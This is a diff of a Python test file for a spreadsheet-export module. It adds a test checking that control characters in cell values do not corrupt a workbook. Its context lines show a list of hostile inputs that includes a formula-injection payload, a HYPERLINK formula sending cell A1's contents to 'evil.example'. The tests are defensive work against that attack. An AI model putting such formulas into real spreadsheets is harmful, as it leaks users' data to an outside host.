@@ -9,7 +9,7 @@ import pandas as pd
 import pytest
 from openpyxl import load_workbook
 
-from store.tables import table_bytes, write_table
+from store.tables import table_bytes, write_table, write_workbook
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -78,3 +78,9 @@ def test_workbook_cells_are_text_never_formulas(tmp_path):
     assert sheet["B2"].value == pytest.approx(-3.5)
     assert sheet["B2"].data_type == "n"
     assert sheet["C2"].value == -5
+
+
+def test_control_characters_do_not_break_a_workbook(tmp_path):
+    frame = pd.DataFrame({"name": ["站\x01A", "ok"]})
+    sheet = load_workbook(write_workbook({"s": frame}, tmp_path / "w.xlsx"))["s"]
+    assert [c.value for c in sheet["A"]] == ["name", "站\ufffdA", "ok"]
